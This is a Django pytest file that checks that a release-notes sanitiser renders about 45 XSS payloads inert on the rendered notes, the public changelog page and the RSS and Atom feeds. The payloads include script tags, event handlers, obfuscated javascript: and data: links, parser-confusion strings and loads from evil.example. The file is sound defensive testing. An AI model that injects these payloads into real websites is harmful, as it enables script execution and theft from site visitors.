"""Release notes are stored as written and rendered inert: the sanitiser against XSS payloads,
in Markdown and raw HTML, on the rendered HTML, the changelog page and the feeds."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.utils import timezone

from releases import notes, services
from releases.models import ChangelogSettings, ReleaseStatus
from tests.releases.factories import ReleaseFactory

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://img.example/x.png\" onload='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body { display: none }</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    # javascript: and data: links, in Markdown and raw HTML
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pic](javascript:alert(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    "[x](&#106;avascript:alert(1))",
    '<a href="java&#09;script:alert(1)">tab</a>',
    '<a href="java\nscript:alert(1)">newline</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/">scheme-relative</a>',
    # event handler attributes
    '<p onclick="alert(1)">x</p>',
    '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    '<b ONCLICK="alert(1)">x</b>',
    # elements that navigate, load or rewrite the page
    '<form action="https://evil.example"><input name=q>'
    '<button formaction="javascript:alert(1)">go</button></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    # parser confusion
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="https://ok.example" title="&quot; onmouseover=&quot;alert(1)">quoted</a>',
]

SAFE_URL = re.compile(r"^(https?://|mailto:)", re.I)
FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "base",
    "meta",
    "link",
    "svg",
    "img",
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_inert(html: str) -> None:
    """No script/style/iframe (or other active) element, no on* or style attribute, and no
    link or source other than an absolute http(s) or mailto URL."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in FORBIDDEN_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, html)
            assert name != "style", html
            if name in ("href", "src", "action", "formaction", "data", "xlink:href"):
                assert value, (name, html)
                assert SAFE_URL.match(value), (name, value, html)
    assert not re.search(r"<\s*(script|style|iframe)", html, re.I), html
    # And as text, outside the (double-quoted, escaped) attribute values the sanitiser writes.
    assert not re.search(r"<[^>]*\son\w+\s*=", re.sub(r'"[^"]*"', '""', html), re.I), html


def test_there_are_enough_payloads():
    assert len(XSS_PAYLOADS) >= 20


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_rendering_makes_each_payload_inert(payload):
    assert_inert(notes.render(payload))
    assert_inert(notes.render(f"## Heading\n\nSome *text* {payload} and [a link](https://ok.example).\n"))


def test_safe_markdown_survives():
    html = notes.render(
        "## New\n\n- **SSO** with [Okta](https://okta.example/docs) — "
        "write to <support@acme.example> or [mail us](mailto:support@acme.example)\n\n`code` ~~no~~"
    )
    assert "<h2>New</h2>" in html
    assert "<strong>SSO</strong>" in html
    assert 'href="https://okta.example/docs"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'href="mailto:support@acme.example"' in html
    assert "<code>code</code>" in html
    assert_inert(html)


@pytest.mark.django_db
def test_notes_are_stored_as_written(workspace, owner):
    release = ReleaseFactory(product__workspace=workspace)
    text = "\n\n".join(XSS_PAYLOADS)
    services.release_notes_update(release=release, actor=owner, notes=text)
    release.refresh_from_db()
    assert release.notes == text
    services.release_notes_publish(release=release, actor=owner)
    release.refresh_from_db()
    assert release.published_notes == text.strip()
    assert_inert(notes.render(release.published_notes))


@pytest.mark.django_db
def test_the_changelog_page_and_feeds_render_the_payloads_inert(workspace):
    ChangelogSettings.objects.create(workspace=workspace, enabled=True)
    now = timezone.now() - timedelta(hours=1)
    release = ReleaseFactory(
        product__workspace=workspace,
        status=ReleaseStatus.RELEASED,
        shipped_at=now,
        shipped_on=timezone.localdate(now),
        published_notes="\n\n".join(XSS_PAYLOADS),
        notes_published_at=now,
    )
    client = Client()
    for path in ("", f"releases/{release.public_id}/"):
        body = client.get(f"/p/{workspace.slug}/changelog/{path}").content.decode()
        notes_html = body.split('<div class="release-notes">', 1)[1].split("</article>", 1)[0]
        assert_inert(notes_html)
        # The page's own scripts are files (no inline script anywhere).
        assert not re.search(r"<script(?![^>]*\ssrc=)[^>]*>", body), body
    rss = ET.fromstring(client.get(f"/p/{workspace.slug}/changelog/rss/").content)  # noqa: S314 (ours)
    assert_inert(rss.find("channel/item/description").text)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    atom = ET.fromstring(client.get(f"/p/{workspace.slug}/changelog/atom/").content)  # noqa: S314 (ours)
    assert_inert(atom.find("a:entry/a:summary", ns).text)
